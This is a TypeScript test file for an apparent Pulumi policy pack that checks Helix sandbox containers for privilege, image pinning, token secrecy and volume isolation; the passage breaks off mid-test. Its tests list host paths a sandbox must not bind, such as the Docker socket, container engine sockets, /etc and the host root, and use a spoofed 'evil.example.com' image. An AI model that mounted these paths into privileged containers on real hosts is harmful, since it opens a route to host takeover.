// The sandbox policies on hand-built arguments: a compliant sandbox as Helix's install.sh runs
// one (fixtures.ts), one property changed per test; and the runner policies left quiet on it.
import type { ResourceValidationPolicy, StackValidationPolicy } from "@pulumi/policy";
import * as policySdk from "@pulumi/policy";
import { Secret } from "@pulumi/policy";
import * as policyProxy from "@pulumi/policy/proxy";
import { SANDBOX_HEALTHCHECK_COMMAND, sandboxImagePinProblem } from "../../contract";
import { imagePinned } from "../../policy/lifecycle";
import { noHostTakeover } from "../../policy/network";
import { policies } from "../../policy/policies";
import { isRunner, isSandbox } from "../../policy/runner";
import {
    sandboxAsHelixRunsIt,
    sandboxIdsUnique,
    sandboxImagePinned,
    sandboxNoDockerSocket,
    sandboxNoPublishedPorts,
    sandboxOwnVolumes,
    sandboxPrivilegedOnly,
    sandboxTokenSecret,
} from "../../policy/sandbox";
import { CONTAINER, REMOTE_IMAGE, SERVICE, runner, sandbox, sandboxProps, withSandboxEnv } from "./fixtures";
import { Fixture, stackViolationsOf, violationsOf } from "./harness";

const DIGEST = "sha256:" + "b".repeat(64);

// The policy SDK's own proxy and sentinel for a value unknown during preview (run-time exports, not in its typings).
const { unknownCheckingProxy } = policySdk as unknown as { unknownCheckingProxy: <T>(value: T) => T };
const { unknownStringValue: UNKNOWN_STRING } = policyProxy as unknown as { unknownStringValue: string };

/** Every policy of the pack on `fixtures`, as "policy-name: message", each policy with its config from `config`. */
async function runPack(fixtures: Fixture[], config: Record<string, Record<string, unknown>> = {}): Promise<string[]> {
    const found: string[] = [];
    for (const policy of policies) {
        const own = config[policy.name] ?? {};
        if ("validateStack" in policy) {
            for (const v of await stackViolationsOf(policy as StackValidationPolicy, fixtures, own)) found.push(`${policy.name}: ${v}`);
        } else {
            for (const f of fixtures)
                for (const v of await violationsOf(policy as ResourceValidationPolicy, f, own)) found.push(`${policy.name}: ${v}`);
        }
    }
    return found;
}

describe("recognising a sandbox", () => {
    it("knows Helix's sandbox image by tag, by a RemoteImage's repoDigest, or both", () => {
        for (const image of [
            "ghcr.io/helixml/helix-sandbox:2.12.2",
            `ghcr.io/helixml/helix-sandbox@${DIGEST}`,
            `ghcr.io/helixml/helix-sandbox:2.12.2@${DIGEST}`,
        ]) {
            expect(isSandbox({ image })).toBe(true);
        }
    });

    it("knows a mirror by its repository's last component on any registry, however the registry host is spelled", () => {
        for (const image of [
            "registry.example.com/helixml/helix-sandbox:2.12.2",
            "MIRROR.EXAMPLE.COM./helixml/helix-sandbox:2.12.2",
            "mirror.example.com:5000/helix-sandbox@" + DIGEST,
            "helixml/helix-sandbox:2.12.2",
        ]) {
            expect({ image, sandbox: isSandbox({ image }) }).toEqual({ image, sandbox: true });
        }
    });

    it("does not know an image ID or a look-alike as the sandbox image", () => {
        for (const image of [
            DIGEST,
            "ghcr.io/helixml/helix-sandbox-dev:2.12.2",
            "ghcr.io/helixml/helix:2.12.2",
            "ghcr.io/helixml/not-helix-sandbox:1",
        ]) {
            expect({ image, sandbox: isSandbox({ image }) }).toEqual({ image, sandbox: false });
        }
        expect(isSandbox({})).toBe(false);
    });

    it("never takes a sandbox for a runner, even with a runner's variables in its environment", async () => {
        const stray = sandbox({ envs: [...sandboxProps().envs, "RUNNER_ID=zed-1", "API_TOKEN=x"] });
        expect(isRunner(stray.props)).toBe(false);
        expect(await violationsOf(noHostTakeover, stray)).toEqual([]);
    });

    it("passes every policy of the pack for two compliant sandboxes on one host", async () => {
        expect(await runPack([sandbox(), sandbox({}, {}, 2)])).toEqual([]);
    });

    it("leaves the compliant runner to the runner policies: no sandbox policy reports on it", async () => {
        const sandboxPolicies = policies.filter((p) => p.name.startsWith("sandbox-"));
        expect(sandboxPolicies).toHaveLength(8);
        for (const policy of sandboxPolicies) {
            const found =
                "validateStack" in policy
                    ? await stackViolationsOf(policy as StackValidationPolicy, [runner()])
                    : await violationsOf(policy as ResourceValidationPolicy, runner());
            expect({ policy: policy.name, found }).toEqual({ policy: policy.name, found: [] });
        }
    });
});

describe("sandbox-privileged-only", () => {
    const other = (changes: Record<string, any>): Fixture => ({ type: CONTAINER, name: "other", props: { name: "other", ...changes } });
    const refused = (image: string) =>
        `Container must not be privileged: only Helix's sandbox image (ghcr.io/helixml/helix-sandbox) may be, and this one runs "${image}".`;

    it("passes a privileged sandbox, by tag or by repoDigest", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, sandbox())).toEqual([]);
        expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: `ghcr.io/helixml/helix-sandbox@${DIGEST}` }))).toEqual([]);
    });

    /** What a sandbox (by its SANDBOX_INSTANCE_ID or its image's name) running another image than Helix's is told. */
    const notHelixs = (image: string) =>
        "Container set up as a Helix sandbox (SANDBOX_INSTANCE_ID, or an image named .../helix-sandbox) must run Helix's sandbox image (ghcr.io/helixml/helix-sandbox) " +
        `or a mirror of it listed in sandboxImageMirrors, and this one runs "${image}". ` +
        "Give its image as a repository (ghcr.io/helixml/helix-sandbox:<release> or a RemoteImage's repoDigest, not an image ID).";

    it("fails any other privileged container; an unlisted mirror is a sandbox that runs an image it may not", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, other({ image: "docker:27-dind", privileged: true }))).toEqual([
            refused("docker:27-dind"),
        ]);
        const mirror = "registry.example.com/helixml/helix-sandbox:2.12.2";
        expect(await violationsOf(sandboxPrivilegedOnly, other({ image: mirror, privileged: true }))).toEqual([notHelixs(mirror)]);
    });

    it("tells a sandbox started from an image ID how to be recognised", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: DIGEST }))).toEqual([notHelixs(DIGEST)]);
    });

    describe("a mirror of Helix's sandbox image", () => {
        const MIRROR = "registry.example.com/helixml/helix-sandbox";
        const MIRRORS = { sandboxImageMirrors: [MIRROR], allowedPrivilegedImages: [] };

        it("runs as a sandbox only when the operator lists it in sandboxImageMirrors", async () => {
            expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: `${MIRROR}:2.12.2` }))).toEqual([
                notHelixs(`${MIRROR}:2.12.2`),
            ]);
            expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: `${MIRROR}:2.12.2` }), MIRRORS)).toEqual([]);
            expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: `${MIRROR.toUpperCase()}@${DIGEST}` }), MIRRORS)).toEqual([]);
        });

        it("is held to every sandbox rule: it is a sandbox to the pack", async () => {
            const published = sandbox({ image: `${MIRROR}:2.12.2`, ports: [{ internal: 8080, external: 8080 }] });
            expect(isSandbox(published.props)).toBe(true);
            expect(await violationsOf(sandboxNoPublishedPorts, published)).toHaveLength(1);
            expect(await stackViolationsOf(sandboxImagePinned, [sandbox({ image: `${MIRROR}:latest` })])).toHaveLength(1);
        });

        it("is a sandbox by its name without SANDBOX_INSTANCE_ID, privileged or not, so every sandbox rule holds it", async () => {
            const bare = other({
                image: `${MIRROR}:2.12.2`,
                envs: ["RUNNER_TOKEN=a-real-runner-token-9f8e7d", "HELIX_API_URL=http://helix.example.com"],
                volumes: [{ hostPath: "/var/run/docker.sock", containerPath: "/var/run/docker.sock" }],
                ports: [{ internal: 8080, external: 8080 }],
            });
            expect(isSandbox(bare.props)).toBe(true);
            const found = await runPack([bare], { "sandbox-privileged-only": MIRRORS });
            for (const policy of [
                "sandbox-no-docker-socket",
                "sandbox-no-published-ports",
                "api-host-tls",
                "sandbox-ids-unique",
                "sandbox-own-volumes",
                "sandbox-token-secret",
            ])
                expect(found.some((v) => v.startsWith(`${policy}: `))).toBe(true);
        });

        it("is refused outright when it is renamed and not set up as a sandbox: nothing else would know it for one", async () => {
            const renamed = "mirror.example.com/helix/sbx";
            const config = { sandboxImageMirrors: [renamed], allowedPrivilegedImages: [] };
            const message = (image: string) =>
                `Container runs "${image}", a mirror of Helix's sandbox image listed in sandboxImageMirrors, but is not set up as a sandbox (no SANDBOX_INSTANCE_ID): ` +
                "the sandbox rules could not hold it. Run it as a sandbox, with its instance ID.";
            for (const changes of [
                { privileged: true },
                { privileged: false, volumes: [{ hostPath: "/var/run/docker.sock", containerPath: "/s" }] },
                { capabilities: { adds: ["SYS_ADMIN"] } },
                {},
            ]) {
                const bare = other({ image: `${renamed}:2.12.2`, ...changes });
                expect(await violationsOf(sandboxPrivilegedOnly, bare, config)).toEqual([message(`${renamed}:2.12.2`)]);
            }
            // Listed in any spelling: the registry host's case, a trailing dot, a tag in the config.
            const spelled = other({ image: `MIRROR.example.com./helix/sbx:latest` });
            expect(await violationsOf(sandboxPrivilegedOnly, spelled, { ...config, sandboxImageMirrors: [`${renamed}:2.12.2`] })).toEqual([
                message("MIRROR.example.com./helix/sbx:latest"),
            ]);
            // Run as a sandbox, it is one, under every sandbox rule.
            expect(await violationsOf(sandboxPrivilegedOnly, sandbox({ image: `${renamed}:2.12.2` }), config)).toEqual([]);
            expect(
                await violationsOf(sandboxNoPublishedPorts, sandbox({ image: `${renamed}:2.12.2`, publishAllPorts: true })),
            ).toHaveLength(1);
        });
    });

    it("passes containers that are not privileged, and names a missing image", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, other({ image: "nginx:1.27" }))).toEqual([]);
        expect(await violationsOf(sandboxPrivilegedOnly, other({ image: "nginx:1.27", privileged: false }))).toEqual([]);
        expect(await violationsOf(sandboxPrivilegedOnly, other({ privileged: true }))).toEqual([
            "Container must not be privileged: only Helix's sandbox image (ghcr.io/helixml/helix-sandbox) may be, and this one runs no image reference.",
        ]);
    });

    it("leaves a privileged runner to no-host-takeover, so it is reported once", async () => {
        expect(await violationsOf(sandboxPrivilegedOnly, runner({ privileged: true }))).toEqual([]);
        expect(await violationsOf(noHostTakeover, runner({ privileged: true }))).toEqual(["Runner container must not be privileged."]);
    });

    it("allows the repositories listed in the pack's config", async () => {
        const dind = other({ image: "docker:27-dind", privileged: true });
        expect(await violationsOf(sandboxPrivilegedOnly, dind, { allowedPrivilegedImages: ["docker"] })).toEqual([]);
        expect(await violationsOf(sandboxPrivilegedOnly, dind, { allowedPrivilegedImages: ["docker.io/library/docker"] })).toEqual([
            refused("docker:27-dind"),
        ]);
    });

    it("fails a Swarm service running the sandbox image, and no other service", async () => {
        const service = (image: string): Fixture => ({ type: SERVICE, props: { name: "s", taskSpec: { containerSpec: { image } } } });
        expect(await violationsOf(sandboxPrivilegedOnly, service("ghcr.io/helixml/helix-sandbox:2.12.2"))).toEqual([
            "A Swarm service must not run Helix's sandbox image (ghcr.io/helixml/helix-sandbox:2.12.2): Swarm cannot run a task privileged or give it devices, and the sandbox needs both. Run sandboxes as containers on each host.",
        ]);
        expect(await violationsOf(sandboxPrivilegedOnly, service("nginx:1.27"))).toEqual([]);
    });
});

describe("sandbox-token-secret", () => {
    const NOT_SECRET =
        'Sandbox container must keep its environment secret (additionalSecretOutputs: ["envs"]): it holds RUNNER_TOKEN, which would otherwise be stored in plain text in the stack state.';

    it("passes a real token in an environment marked secret, or passed as a secret", async () => {
        expect(await violationsOf(sandboxTokenSecret, sandbox())).toEqual([]);
        const passed = sandbox({ envs: new Secret(sandboxProps().envs) }, { additionalSecretOutputs: [] });
        expect(await violationsOf(sandboxTokenSecret, passed)).toEqual([]);
    });

    it("fails an environment that is not secret", async () => {
        expect(await violationsOf(sandboxTokenSecret, sandbox({}, { additionalSecretOutputs: [] }))).toEqual([NOT_SECRET]);
    });

    it("fails the token copied into another property", async () => {
        expect(await violationsOf(sandboxTokenSecret, sandbox({ labels: [{ label: "t", value: "a-real-runner-token-9f8e7d" }] }))).toEqual([
            "Sandbox container must not carry RUNNER_TOKEN outside its secret environment: labels holds it in plain text.",
        ]);
    });

    it("fails Helix's example token, however cased", async () => {
        expect(
            await violationsOf(sandboxTokenSecret, sandbox({ envs: withSandboxEnv("RUNNER_TOKEN", "OH-HALLO-INSECURE-TOKEN") })),
        ).toEqual(["Sandbox container must not use Helix's example token oh-hallo-insecure-token: anyone could attach machines with it."]);
    });

    it("fails a missing or empty token", async () => {
        const message = "Sandbox container must be given a non-empty RUNNER_TOKEN: the control plane's runner token.";
        expect(await violationsOf(sandboxTokenSecret, sandbox({ envs: withSandboxEnv("RUNNER_TOKEN", undefined) }))).toEqual([message]);
        expect(await violationsOf(sandboxTokenSecret, sandbox({ envs: withSandboxEnv("RUNNER_TOKEN", " ") }))).toEqual([message]);
        expect(await violationsOf(sandboxTokenSecret, sandbox({ envs: undefined }))).toEqual([message]);
    });

    it("ignores containers that are not sandboxes", async () => {
        const other: Fixture = { type: CONTAINER, props: { image: "nginx:1.27", envs: ["RUNNER_TOKEN=x"] } };
        expect(await violationsOf(sandboxTokenSecret, other)).toEqual([]);
    });
});

describe("sandbox-no-docker-socket", () => {
    const binding = (hostPath: string) => sandbox({ volumes: [...sandboxProps().volumes, { hostPath, containerPath: "/x" }] });
    const refused = (what: string, source: string, verb = "bind") =>
        `Sandbox container must not ${verb} ${what} (${source}): it runs its own dockerd and needs none of the host's.`;

    it("passes the sandbox as install.sh runs it, /run/udev and /var/run/sandbox bound", async () => {
        expect(await violationsOf(sandboxNoDockerSocket, sandbox())).toEqual([]);
    });

    it.each([
        // Where install.sh's development mode (PRIVILEGED_DOCKER) binds the host's socket from.
        ["/var/run/docker.sock", "the Docker socket"],
        ["//var/run/docker.sock/", "the Docker socket"],
        ["/run/docker.sock", "the Docker socket"],
        ["/var/run", "/var/run, which holds the Docker socket"],
        ["/run/", "/run, which holds the Docker socket"],
        ["/run/containerd/containerd.sock", "/run/containerd/containerd.sock, a container engine's socket"],
        ["/var/run/docker/plugins", "/var/run/docker/plugins, inside a container engine's folder (/run/docker)"],
        ["/var/lib/docker", "/var/lib/docker, a container engine's folder"],
        ["/", "the host's root folder"],
        ["/etc", "the host's system folder /etc"],
    ])("fails a bind of %s", async (hostPath, what) => {
        expect(await violationsOf(sandboxNoDockerSocket, binding(hostPath))).toEqual([refused(what, hostPath)]);
    });

    it("fails the socket as a bind mount or a local volume that binds it", async () => {
        expect(
            await violationsOf(
                sandboxNoDockerSocket,
                sandbox({ mounts: [{ type: "bind", source: "/var/run/docker.sock", target: "/var/run/docker.sock" }] }),
            ),
        ).toEqual([refused("the Docker socket", "/var/run/docker.sock")]);
        const volume = {
            type: "volume",
            target: "/h",
            volumeOptions: { driverName: "local", driverOptions: { type: "none", o: "bind", device: "/run" } },
        };
        expect(await violationsOf(sandboxNoDockerSocket, sandbox({ mounts: [volume] }))).toEqual([
            refused("/run, which holds the Docker socket", "/run", "mount a local volume that binds"),
        ]);
    });

    it("passes a sandbox with no volumes or mounts at all", async () => {
        expect(await violationsOf(sandboxNoDockerSocket, sandbox({ volumes: undefined, mounts: undefined }))).toEqual([]);
    });

    it("allows system folders listed in the pack's config, never the engine's", async () => {
        const config = { allowedHostPaths: ["/sys/fs/cgroup", "/var/run/docker.sock", "/run/containerd"] };
        expect(await violationsOf(sandboxNoDockerSocket, binding("/sys/fs/cgroup"), config)).toEqual([]);
        expect(await violationsOf(sandboxNoDockerSocket, binding("/sys/fs/cgroup"))).toEqual([
            refused("/sys/fs/cgroup, inside a host system folder", "/sys/fs/cgroup"),
        ]);
        expect(await violationsOf(sandboxNoDockerSocket, binding("/var/run/docker.sock"), config)).toEqual([
            refused("the Docker socket", "/var/run/docker.sock"),
        ]);
        expect(await violationsOf(sandboxNoDockerSocket, binding("/run/containerd"), config)).toEqual([
            refused("/run/containerd, a container engine's folder", "/run/containerd"),
        ]);
    });

    it("ignores containers that are not sandboxes", async () => {
        expect(
            await violationsOf(sandboxNoDockerSocket, {
                type: CONTAINER,
                props: { image: "x:1", volumes: [{ hostPath: "/var/run/docker.sock", containerPath: "/s" }] },
            }),
        ).toEqual([]);
    });

    it.each(["/run/user/1000/docker.sock", "/run/user/1000/podman/podman.sock", "/var/run/crio/crio.sock"])(
        "fails a bind of %s, another engine's socket, whatever allowedHostPaths says",
        async (hostPath) => {
            const violations = await violationsOf(sandboxNoDockerSocket, binding(hostPath), { allowedHostPaths: [hostPath] });
            expect(violations).toEqual([refused(`${hostPath}, a container engine's socket`, hostPath)]);
        },
    );
});

describe("sandbox-image-pinned", () => {
    const withImage = (image: string | undefined) => sandbox({ image });
    const pulled = (props: Record<string, string>, name = "sandbox-image"): Fixture => ({ type: REMOTE_IMAGE, name, props });
    /** What the pack says of sandbox-1's image: the contract's own verdict on it, the program's. */
    const refused = (image: string, problem = sandboxImagePinProblem(image)) => {
        expect(problem).toBeDefined();
        return `Sandbox container sandbox-1's image "${image}" ${problem}.`;
    };

    it.each([
        "ghcr.io/helixml/helix-sandbox:2.12.2",
        "ghcr.io/helixml/helix-sandbox:2.5.42",
        "ghcr.io/helixml/helix-sandbox:2.13.0-rc1",
        // Helix's release candidates of 2.5.42 already attach machines as sandboxes.
        "ghcr.io/helixml/helix-sandbox:2.5.42-rc1",
        `ghcr.io/helixml/helix-sandbox:2.12.2@${DIGEST}`,
        // The registry host in any case, as the engine reads it.
        "GHCR.IO/helixml/helix-sandbox:2.12.2",
    ])("passes %s", async (image) => {
        expect(await stackViolationsOf(sandboxImagePinned, [withImage(image)])).toEqual([]);
    });

    it("fails latest and untagged, with the program's reason", async () => {
        for (const image of [
            "ghcr.io/helixml/helix-sandbox:latest",
            "ghcr.io/helixml/helix-sandbox",
            // A digest does not skip the release check: the tag beside it says which release the digest is.
            `ghcr.io/helixml/helix-sandbox:latest@${DIGEST}`,
        ]) {
            const found = await stackViolationsOf(sandboxImagePinned, [withImage(image)]);
            expect(found).toEqual([refused(image)]);
            expect(found[0]).toMatch(/latest/);
        }
    });

    it.each(["main", "v2.12.2", "2.5.41", "2.4.0-rc8", "2.5.41-rc1", "1.99.99"])(
        "fails the tag %s, which is no Helix release with the sandbox: the contract's release grammar",
        async (tag) => {
            const image = `ghcr.io/helixml/helix-sandbox:${tag}`;
            expect(await stackViolationsOf(sandboxImagePinned, [withImage(image)])).toEqual([refused(image)]);
        },
    );

    it("fails a malformed digest beside a release tag, as the program does", async () => {
        const image = "ghcr.io/helixml/helix-sandbox:2.12.2@sha256:xyz";
        expect(await stackViolationsOf(sandboxImagePinned, [withImage(image)])).toEqual([refused(image)]);
    });

    describe("a digest without a tag, as the program gives a container its RemoteImage's repoDigest", () => {
        const byDigest = `ghcr.io/helixml/helix-sandbox@${DIGEST}`;
        const remote = (name: string) => pulled({ name, repoDigest: byDigest, imageId: `sha256:${"c".repeat(64)}` });

        it("passes when a RemoteImage of the stack pulled it by a release tag", async () => {
            expect(
                await stackViolationsOf(sandboxImagePinned, [withImage(byDigest), remote("ghcr.io/helixml/helix-sandbox:2.12.2")]),
            ).toEqual([]);
            // The mocks' repoDigest keeps the tag; a name with the digest beside its tag is the same pull.
            expect(
                await stackViolationsOf(sandboxImagePinned, [
                    withImage(byDigest),
                    pulled({ name: `ghcr.io/helixml/helix-sandbox:2.12.2@${DIGEST}` }),
                ]),
            ).toEqual([]);
        });

        it("fails when no RemoteImage pulled it: the digest would skip the release check", async () => {
            const found = await stackViolationsOf(sandboxImagePinned, [withImage(byDigest)]);
            expect(found).toEqual([
                `Sandbox container sandbox-1's image "${byDigest}" ${sandboxImagePinProblem(byDigest)}, and no RemoteImage of the stack pulls it with a release tag.`,
            ]);
            // A RemoteImage of another release, or of the same digest in another repository, is not its source.
            const other = pulled({
                name: "ghcr.io/helixml/helix-sandbox:2.4.0",
                repoDigest: `ghcr.io/helixml/helix-sandbox@sha256:${"d".repeat(64)}`,
            });
            const elsewhere = pulled(
                { name: "evil.example.com/helix-sandbox:2.12.2", repoDigest: `evil.example.com/helix-sandbox@${DIGEST}` },
                "evil",
            );
            const withOthers = await stackViolationsOf(sandboxImagePinned, [withImage(byDigest), other, elsewhere]);
            expect(withOthers).toContain(found[0]);
        });

        it("fails through its RemoteImage when that pulled latest or an old release", async () => {
            expect(
                await stackViolationsOf(sandboxImagePinned, [withImage(byDigest), remote("ghcr.io/helixml/helix-sandbox:latest")]),
            ).toEqual([
                `RemoteImage sandbox-image's sandbox image "ghcr.io/helixml/helix-sandbox:latest" ${sandboxImagePinProblem("ghcr.io/helixml/helix-sandbox:latest")}.`,
            ]);
        });

        it("checks a renamed mirror's RemoteImage that feeds a sandbox, by value or by Pulumi's dependency", async () => {
            const mirror = "mirror.example.com/helix/sbx";
            const feed = pulled({ name: `${mirror}:latest`, repoDigest: `${mirror}@${DIGEST}` });
            const expected = `RemoteImage sandbox-image's sandbox image "${mirror}:latest" ${sandboxImagePinProblem(`${mirror}:latest`)}.`;
            expect(await stackViolationsOf(sandboxImagePinned, [withImage(`${mirror}@${DIGEST}`), feed])).toEqual([expected]);
            // During a preview the repoDigest is not known yet; the dependency is.
            const previewed = {
                ...sandbox(),
                props: unknownCheckingProxy({ ...sandboxProps(), image: UNKNOWN_STRING }),
                propertyDependencies: { image: ["sandbox-image"] },
            };
            expect(await stackViolationsOf(sandboxImagePinned, [previewed, pulled({ name: `${mirror}:latest` })])).toEqual([expected]);
        });

        it("fails a mirror's digest alone with no RemoteImage", async () => {
            const image = `mirror.example.com/helix/sbx@${DIGEST}`;
            expect(await stackViolationsOf(sandboxImagePinned, [withImage(image)])).toHaveLength(1);
        });
    });

    describe("an image ID", () => {
        const ID = `sha256:${"c".repeat(64)}`;

        it("says it names no release, not that its hex is a bad tag", async () => {
            const found = await stackViolationsOf(sandboxImagePinned, [withImage(ID)]);
            expect(found).toEqual([
                `Sandbox container sandbox-1's image "${ID}" is an image ID, which names no repository and no release, and no RemoteImage of the stack has that ID: ` +
                    "give it ghcr.io/helixml/helix-sandbox:<release>, or the repoDigest of a RemoteImage that pulls one, so which Helix release it runs can be checked.",
            ]);
            expect(found[0]).not.toMatch(/tag "c+"/);
        });

        it("is checked through the RemoteImage with that ID, as a container's state holds it after `pulumi up`", async () => {
            const remote = (name: string) => pulled({ name, imageId: ID, repoDigest: `ghcr.io/helixml/helix-sandbox@${DIGEST}` });
            expect(await stackViolationsOf(sandboxImagePinned, [withImage(ID), remote("ghcr.io/helixml/helix-sandbox:2.12.2")])).toEqual(
                [],
            );
            expect(
                await stackViolationsOf(sandboxImagePinned, [withImage(ID), remote("ghcr.io/helixml/helix-sandbox:2.4.0")]),
            ).toHaveLength(1);
        });
    });

    it("holds a mirror to the same release rules, as a sandbox's image and as a pulled RemoteImage", async () => {
        const mirror = "registry.example.com/helixml/helix-sandbox";
        expect(await stackViolationsOf(sandboxImagePinned, [withImage(`${mirror}:2.12.2`)])).toEqual([]);
        expect(await stackViolationsOf(sandboxImagePinned, [withImage(`${mirror}:latest`)])).toEqual([refused(`${mirror}:latest`)]);
        expect(await stackViolationsOf(sandboxImagePinned, [pulled({ name: `${mirror}@${DIGEST}` })])).toEqual([
            `RemoteImage sandbox-image's sandbox image "${mirror}@${DIGEST}" ${sandboxImagePinProblem(`${mirror}@${DIGEST}`)}.`,
        ]);
    });

    it("ignores a container with no image or another image", async () => {
        expect(await stackViolationsOf(sandboxImagePinned, [withImage(undefined)])).toEqual([]);
        expect(await stackViolationsOf(sandboxImagePinned, [runner({ image: "registry.example.com/helix-zed-agent:latest" })])).toEqual([]);
        expect(await stackViolationsOf(sandboxImagePinned, [pulled({ name: "nginx:latest" })])).toEqual([]);
    });

    it("holds every sandbox to requiredRelease from the pack's config", async () => {
        expect(await stackViolationsOf(sandboxImagePinned, [sandbox()], { requiredRelease: "2.12.2" })).toEqual([]);
        expect(await stackViolationsOf(sandboxImagePinned, [sandbox()], { requiredRelease: "2.12.3" })).toEqual([
            refused(
                "ghcr.io/helixml/helix-sandbox:2.12.2",
                "has the tag 2.12.2, but the control plane runs 2.12.3 (requiredRelease): Hydra's API changes between releases, so a sandbox must run its control plane's release",
            ),
        ]);
    });

    it("checks a pulled RemoteImage named like the sandbox's, and leaves it out of image-pinned so it is reported once", async () => {
        expect(await stackViolationsOf(sandboxImagePinned, [pulled({ name: "ghcr.io/helixml/helix-sandbox:2.12.2" })])).toEqual([]);
        expect(await stackViolationsOf(sandboxImagePinned, [pulled({ name: "ghcr.io/helixml/helix-sandbox:latest" })])).toHaveLength(1);
        expect(await violationsOf(imagePinned, pulled({ name: "ghcr.io/helixml/helix-sandbox:latest" }))).toEqual([]);
        expect(await violationsOf(imagePinned, pulled({ name: "nginx:latest" }))).toEqual([
            'Pulled image must be pinned by digest or tag, not "nginx:latest".',
        ]);
    });

    it("judges what a preview knows and skips a value it does not, rather than the whole stack", async () => {
        const unknownImage = sandbox();
        const props = unknownCheckingProxy({ ...unknownImage.props, image: UNKNOWN_STRING });
        const found = await stackViolationsOf(sandboxImagePinned, [
            { ...unknownImage, props },
            pulled({ name: "ghcr.io/helixml/helix-sandbox:latest" }),
        ]);
        expect(found).toHaveLength(1);
        expect(found[0]).toMatch(/^RemoteImage sandbox-image's/);
    });
});

describe("sandbox-own-volumes", () => {
    const volumes = (n: number, changes: Record<string, object | undefined>) =>
        (sandboxProps(n).volumes as { containerPath: string }[]).flatMap((v) =>
            v.containerPath in changes ? (changes[v.containerPath] ? [changes[v.containerPath]] : []) : [v],
        );

    it("passes sandboxes each with their own volumes, given as volumes or as mounts", async () => {
        const asMounts = sandbox(
            {
                volumes: undefined,
                mounts: [
                    { type: "volume", source: "sb2-docker", target: "/var/lib/docker" },
                    { type: "volume", source: "sb2-data", target: "/data/" },
                    { type: "bind", source: "/srv/sandbox-2/hydra", target: "/hydra-data" },
                ],
            },
            {},
            2,
        );
        expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox(), asMounts])).toEqual([]);
    });

    it("fails a volume two sandboxes share, at any of the three folders", async () => {
        const second = sandbox(
            { volumes: volumes(2, { "/var/lib/docker": { volumeName: "helix-sandbox-dev-1-docker", containerPath: "/var/lib/docker" } }) },
            {},
            2,
        );
        expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox(), second])).toEqual([
            'Sandboxes must not share a volume: "helix-sandbox-dev-1-docker" is mounted by sandbox-1 at /var/lib/docker, sandbox-2 at /var/lib/docker; each sandbox\'s dockerd and Hydra need their own.',
        ]);
        const crossed = sandbox(
            { volumes: volumes(2, { "/hydra-data": { volumeName: "helix-sandbox-dev-1-data", containerPath: "/hydra-data" } }) },
            {},
            2,
        );
        expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox(), crossed])).toEqual([
            'Sandboxes must not share a volume: "helix-sandbox-dev-1-data" is mounted by sandbox-1 at /data, sandbox-2 at /hydra-data; each sandbox\'s dockerd and Hydra need their own.',
        ]);
    });

    it("fails a host folder two sandboxes share, however spelled", async () => {
        const bind = (n: number, hostPath: string) =>
            sandbox({ volumes: volumes(n, { "/data": { hostPath, containerPath: "/data" } }) }, {}, n);
        expect(await stackViolationsOf(sandboxOwnVolumes, [bind(1, "/srv/data"), bind(2, "/srv//data/")])).toEqual([
            'Sandboxes must not share a host folder: "/srv/data" is mounted by sandbox-1 at /data, sandbox-2 at /data; each sandbox\'s dockerd and Hydra need their own.',
        ]);
    });

    it("allows the same volume names on different Docker hosts", async () => {
        const a = sandbox({}, { provider: { urn: "urn:provider:a", host: "ssh://a" } });
        const b = sandbox(
            { envs: withSandboxEnv("SANDBOX_INSTANCE_ID", "b-1") },
            { name: "sandbox-1b", provider: { urn: "urn:provider:b", host: "ssh://b" } },
        );
        expect(await stackViolationsOf(sandboxOwnVolumes, [a, b])).toEqual([]);
    });

    it("fails a sandbox missing a volume, or with one it cannot keep", async () => {
        expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox({ volumes: volumes(1, { "/var/lib/docker": undefined }) })])).toEqual([
            "Sandbox container sandbox-1 must mount a named volume of its own at /var/lib/docker.",
        ]);
        expect(
            await stackViolationsOf(sandboxOwnVolumes, [sandbox({ volumes: volumes(1, { "/data": { containerPath: "/data" } }) })]),
        ).toEqual(["Sandbox container sandbox-1 must mount a named volume of its own at /data, not an anonymous volume."]);
        const tmpfs = sandbox({ mounts: [{ type: "tmpfs", target: "/hydra-data" }], volumes: volumes(1, { "/hydra-data": undefined }) });
        expect(await stackViolationsOf(sandboxOwnVolumes, [tmpfs])).toEqual([
            "Sandbox container sandbox-1 must mount a named volume of its own at /hydra-data, not a tmpfs mount with no name.",
        ]);
        expect(await stackViolationsOf(sandboxOwnVolumes, [sandbox({ volumes: undefined })])).toEqual([
            "Sandbox container sandbox-1 must mount a named volume of its own at /var/lib/docker.",
            "Sandbox container sandbox-1 must mount a named volume of its own at /data.",
            "Sandbox container sandbox-1 must mount a named volume of its own at /hydra-data.",
        ]);
    });

    it("requires only /var/lib/docker when the pack's config turns requireDataVolumes off", async () => {
        const bare = sandbox({ volumes: undefined });
        expect(await stackViolationsOf(sandboxOwnVolumes, [bare], { requireDataVolumes: false })).toEqual([
            "Sandbox container sandbox-1 must mount a named volume of its own at /var/lib/docker.",
        ]);
        expect(
            await stackViolationsOf(sandboxOwnVolumes, [sandbox({ volumes: volumes(1, { "/data": undefined }) })], {
                requireDataVolumes: false,
            }),
        ).toEqual([]);
    });

    describe("a sandbox's volumes and folders are its own: nothing else on its Docker host mounts them", () => {
        const postgres = (volumes: object[], extra: Partial<Fixture> = {}): Fixture => ({
            type: CONTAINER,
            name: "postgres",
            props: { name: "helix-postgres", image: "postgres:16", volumes },
            ...extra,
        });
        const sharing = (what: string, source: string, path: string, others = "postgres", verb = "is") =>
            `Sandbox container sandbox-1 must not share its ${what} "${source}" (at ${path}) with ${others}, which ${verb} not a sandbox: ` +
            "what else mounts it can change what the privileged sandbox runs or read what it keeps.";

        it("fails a named volume another container mounts, at any of the sandbox's folders", async () => {
            const taken = sandbox({ volumes: volumes(1, { "/data": { volumeName: "helix_postgres-data", containerPath: "/data" } }) });
            expect(
                await stackViolationsOf(sandboxOwnVolumes, [
                    taken,
                    postgres([{ volumeName: "helix_postgres-data", containerPath: "/var/lib/postgresql/data" }]),
                ]),
